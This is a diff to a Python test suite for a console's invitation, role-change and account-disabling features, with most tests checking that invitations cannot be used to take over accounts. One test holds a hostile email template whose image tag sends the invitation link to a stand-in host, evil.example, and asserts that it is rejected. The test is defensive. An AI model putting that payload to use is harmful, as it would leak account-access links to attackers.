@@ -1,20 +1,24 @@
-"""People from the console: invitations with a set-password link, role changes, disabling; never outside the
-actor's subtree, never locking a tenant out."""
+"""People from the console: invitations that the invitee accepts as themselves, role changes, disabling; never
+outside the actor's subtree, never locking a tenant out, never a way into somebody else's account."""
 
 from __future__ import annotations
 
+from datetime import timedelta
 from pathlib import Path
 
 import pytest
 from sqlmodel import Session, select
 
+from services.accounts import invitations
 from services.accounts import login as login_flow
 from services.accounts import service
-from services.admin import users
-from services.tenancy.scope import Forbidden
+from services.accounts.sessions import create_session, resolve_session
+from services.admin import branding, users
 from services.errors import ValidationFailed
-from services.models import AuditEvent, Membership, Organization, Role, User
-from tests.support.mailbox import link_in, outbox_messages
+from services.models import AuditEvent, Invitation, Membership, Organization, Role, User, UserToken
+from services.models.base import utcnow
+from services.tenancy.scope import Forbidden
+from tests.support.mailbox import outbox_messages, text_of
 from tests.support.tenants import actor as _actor
 
 
@@ -22,27 +26,160 @@ def _org(db: Session, slug: str) -> Organization:
     return db.exec(select(Organization).where(Organization.slug == slug)).one()
 
 
-def test_an_invited_person_sets_a_password_by_the_link_and_can_sign_in(db: Session, tree: dict, outbox: Path) -> None:
-    user_id = users.invite(db, _actor(db, tree, "a-admin"), email="New.Support@Example.com", role=Role.SUPPORT,
-                           organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+def _user(db: Session, username: str) -> User:
+    return db.exec(select(User).where(User.username == username)).one()
+
+
+def _mail_to(outbox: Path, address: str):  # type: ignore[no-untyped-def]
+    return [m for m in outbox_messages(outbox) if m["To"].lower() == address][-1]
+
+
+def _token(message) -> str:  # type: ignore[no-untyped-def]
+    return text_of(message).split("token=", 1)[1].split()[0]
+
+
+def test_a_new_person_accepts_with_a_password_of_their_own_and_can_sign_in(db: Session, tree: dict,
+                                                                          outbox: Path) -> None:
+    invitations.invite(db, _actor(db, tree, "a-admin"), email="New.Support@Example.com", role=Role.SUPPORT,
+                       organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
     db.commit()
-    mail = [m for m in outbox_messages(outbox) if m["To"].lower() == "new.support@example.com"][-1]
-    assert "Reseller-A" in mail["Subject"] and "a-admin@example.com" in mail.get_body(("plain",)).get_content()  # type: ignore[union-attr]
-    service.reset_password(db, link_in(mail).split("token=")[1], "a brand new passphrase")
+    assert db.exec(select(User).where(User.email == "new.support@example.com")).first() is None  # not yet
+    mail = _mail_to(outbox, "new.support@example.com")
+    assert "Reseller-A" in mail["Subject"] and "a-admin@example.com" in text_of(mail)
+    offer = invitations.offer_for_token(db, _token(mail))
+    assert offer is not None and offer.organization == "Reseller-A" and offer.role == Role.SUPPORT
+    user = invitations.accept_new_account(db, _token(mail), "a brand new passphrase")
     db.commit()
     assert login_flow.login(db, identifier="new.support@example.com", password="a brand new passphrase")
-    assert [m.role for m in db.exec(select(Membership).where(Membership.user_id == user_id)).all()] == [Role.SUPPORT]
+    assert [m.role for m in db.exec(select(Membership).where(Membership.user_id == user.id)).all()] == [Role.SUPPORT]
+    with pytest.raises(ValidationFailed, match="already used"):  # the link works once
+        invitations.accept_new_account(db, _token(mail), "another passphrase here")
     with pytest.raises(ValidationFailed, match="already a member"):
-        users.invite(db, _actor(db, tree, "a-admin"), email="new.support@example.com", role=Role.ADMIN,
-                     organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+        invitations.invite(db, _actor(db, tree, "a-admin"), email="new.support@example.com", role=Role.ADMIN,
+                           organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+
+
+def test_inviting_an_existing_account_hands_out_no_way_into_it(db: Session, tree: dict, outbox: Path) -> None:
+    """The review's take-over: a reseller's admin invites the platform's operator. Nothing of the operator's
+    account changes, no token is mailed, and the reseller gains nothing until the operator accepts."""
+    operator = tree["users"]["operator"]
+    operator.email_verified_at = utcnow()
+    db.add(operator)
+    db.commit()
+    hash_before = operator.password_hash
+    invitations.invite(db, _actor(db, tree, "a-admin"), email="operator@example.com", role=Role.ADMIN,
+                       organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    db.commit()
+    mail = _mail_to(outbox, "operator@example.com")
+    assert "token=" not in str(mail) and "/invitations" in text_of(mail)
+    assert db.exec(select(UserToken).where(UserToken.user_id == operator.id)).all() == []
+    assert db.exec(select(Membership).where(Membership.user_id == operator.id)).all() == \
+        db.exec(select(Membership).where(Membership.user_id == operator.id,
+                                         Membership.organization_id == _org(db, "platform").id)).all()
+    db.refresh(operator)
+    assert operator.password_hash == hash_before
+    [offer] = invitations.pending_for(db, operator.id)  # type: ignore[arg-type]
+    invitations.respond(db, operator.id, offer.id, accept=False)  # type: ignore[arg-type]
+    db.commit()
+    assert invitations.pending_for(db, operator.id) == []  # type: ignore[arg-type]
+    assert len(db.exec(select(Membership).where(Membership.user_id == operator.id)).all()) == 1
+    with pytest.raises(ValidationFailed):  # declined is final
+        invitations.respond(db, operator.id, offer.id, accept=True)  # type: ignore[arg-type]
+
+
+def test_an_existing_account_joins_only_by_accepting_as_itself(db: Session, tree: dict, outbox: Path) -> None:
+    cust = _user(db, "cust-b")
+    cust.email_verified_at = utcnow()
+    db.add(cust)
+    db.commit()
+    invitation = invitations.invite(db, _actor(db, tree, "a-admin"), email="cust-b@example.com", role=Role.SUPPORT,
+                                    organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    db.commit()
+    stranger = tree["users"]["b-admin"]
+    with pytest.raises(Forbidden):  # someone else cannot accept it for them
+        invitations.respond(db, stranger.id, invitation.id, accept=True)  # type: ignore[arg-type]
+    db.rollback()
+    invitations.respond(db, cust.id, invitation.id, accept=True)  # type: ignore[arg-type]
+    db.commit()
+    assert db.exec(select(Membership).where(Membership.user_id == cust.id,
+                                            Membership.organization_id == _org(db, "reseller-a").id)).one()
+
+
+def test_an_unconfirmed_address_sees_and_accepts_nothing(db: Session, tree: dict) -> None:
+    """Someone who signed up with the invitee's address but never confirmed it is not the invitee."""
+    invitation = invitations.invite(db, _actor(db, tree, "a-admin"), email="later@example.com", role=Role.SUPPORT,
+                                    organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    db.commit()
+    squatter = service.signup(db, email="later@example.com", username="squatter", password="long enough password")
+    db.commit()
+    assert invitations.pending_for(db, squatter.user_id) == []
+    with pytest.raises(Forbidden):
+        invitations.respond(db, squatter.user_id, invitation.id, accept=True)  # type: ignore[arg-type]
+
+
+def test_the_new_person_token_cannot_reset_or_take_an_account(db: Session, tree: dict, outbox: Path) -> None:
+    invitations.invite(db, _actor(db, tree, "a-admin"), email="fresh@example.com", role=Role.SUPPORT,
+                       organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    db.commit()
+    token = _token(_mail_to(outbox, "fresh@example.com"))
+    with pytest.raises(ValidationFailed, match="invalid"):  # not a password-reset token
+        service.reset_password(db, token, "a brand new passphrase")
+    db.rollback()
+    service.signup(db, email="fresh@example.com", username="freshly", password="my own long password")
+    db.commit()
+    with pytest.raises(ValidationFailed, match="exists now"):
+        invitations.accept_new_account(db, token, "the attackers passphrase")
+    db.rollback()
+    assert db.exec(select(User).where(User.email == "fresh@example.com")).one().username == "freshly"
+
+
+def test_invitations_expire_and_can_be_withdrawn(db: Session, tree: dict, outbox: Path) -> None:
+    admin = _actor(db, tree, "a-admin")
+    invitation = invitations.invite(db, admin, email="slow@example.com", role=Role.SUPPORT,
+                                    organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    invitation.expires_at = utcnow() - timedelta(seconds=1)
+    db.add(invitation)
+    db.commit()
+    token = _token(_mail_to(outbox, "slow@example.com"))
+    assert invitations.offer_for_token(db, token) is None
+    with pytest.raises(ValidationFailed, match="expired"):
+        invitations.accept_new_account(db, token, "a brand new passphrase")
+    db.rollback()
+    other = invitations.invite(db, admin, email="gone@example.com", role=Role.SUPPORT,
+                               organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    db.commit()
+    assert [r["email"] for r in invitations.list_pending(db, admin)] == ["gone@example.com", "slow@example.com"]
+    with pytest.raises(Forbidden):
+        invitations.revoke(db, _actor(db, tree, "b-admin"), other.id)  # type: ignore[arg-type]
+    db.rollback()
+    invitations.revoke(db, admin, other.id)  # type: ignore[arg-type]
+    db.commit()
+    assert db.get(Invitation, other.id).status == "revoked"  # type: ignore[union-attr]
+    assert invitations.offer_for_token(db, _token(_mail_to(outbox, "gone@example.com"))) is None
+
+
+def test_only_owners_make_owners(db: Session, tree: dict) -> None:
+    with pytest.raises(ValidationFailed, match="Only an owner"):
+        invitations.invite(db, _actor(db, tree, "a-admin"), email="boss@example.com", role=Role.OWNER,
+                           organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    db.rollback()
+    support = db.exec(select(Membership).where(Membership.user_id == tree["users"]["a-support"].id)).one()
+    with pytest.raises(ValidationFailed, match="Only an owner"):
+        users.change_role(db, _actor(db, tree, "a-admin"), support.id, Role.OWNER)  # type: ignore[arg-type]
+
+
+def test_a_sellers_invitation_template_cannot_send_the_link_elsewhere(db: Session, tree: dict) -> None:
+    with pytest.raises(ValidationFailed, match="link"):
+        branding.save_email_template(db, _actor(db, tree, "a-admin"), _org(db, "reseller-a").id,  # type: ignore[arg-type]
+                                     "invitation", {"html": '<img src="https://evil.example/?{{ link }}">'})
 
 
 def test_no_one_manages_people_outside_their_subtree_or_without_the_role(db: Session, tree: dict) -> None:
     a_customer = db.exec(select(Membership).join(User, User.id == Membership.user_id)  # type: ignore[arg-type]
                          .where(User.username == "cust-a")).one()
     attempts = [
-        lambda: users.invite(db, _actor(db, tree, "b-admin"), email="x@example.com", role=Role.ADMIN,
-                             organization_id=_org(db, "reseller-a").id),
+        lambda: invitations.invite(db, _actor(db, tree, "b-admin"), email="x@example.com", role=Role.ADMIN,
+                                   organization_id=_org(db, "reseller-a").id),
         lambda: users.change_role(db, _actor(db, tree, "b-admin"), a_customer.id, Role.MEMBER),
         lambda: users.set_disabled(db, _actor(db, tree, "b-admin"), a_customer.user_id, True),
         lambda: users.change_role(db, _actor(db, tree, "a-support"), a_customer.id, Role.MEMBER),
@@ -53,6 +190,7 @@ def test_no_one_manages_people_outside_their_subtree_or_without_the_role(db: Ses
         db.rollback()
     assert db.get(Membership, a_customer.id).role == Role.OWNER  # type: ignore[union-attr]
     assert db.get(User, a_customer.user_id).status == "active"  # type: ignore[union-attr]
+    assert db.exec(select(Invitation)).all() == []
     assert len(db.exec(select(AuditEvent).where(AuditEvent.action == "admin.denied")).all()) == 4
     assert {r["email"] for r in users.list_users(db, _actor(db, tree, "b-admin"))[0]} == \
         {"b-admin@example.com", "cust-b@example.com"}
@@ -62,16 +200,17 @@ def test_disabling_signs_out_at_once_and_nobody_removes_the_last_owner_or_themse
     admin = _actor(db, tree, "a-admin")
     customer = db.exec(select(User).where(User.username == "cust-a")).one()
     owner = db.exec(select(Membership).where(Membership.user_id == customer.id)).one()
-    with pytest.raises(ValidationFailed, match="at least one owner"):
+    with pytest.raises(ValidationFailed, match="Only an owner|at least one owner"):
         users.change_role(db, admin, owner.id, Role.MEMBER)
+    operator = _actor(db, tree, "operator")
+    with pytest.raises(ValidationFailed, match="at least one owner"):
+        users.change_role(db, operator, owner.id, Role.MEMBER)
     own = db.exec(select(Membership).where(Membership.user_id == admin.user_id)).one()
     with pytest.raises(ValidationFailed, match="own role"):
         users.change_role(db, admin, own.id, Role.OWNER)
     with pytest.raises(Forbidden, match="own account"):
         users.set_disabled(db, admin, admin.user_id, True)
     db.rollback()
-
-    from services.accounts.sessions import create_session, resolve_session
 
     token = create_session(db, customer.id)  # type: ignore[arg-type]
     db.commit()
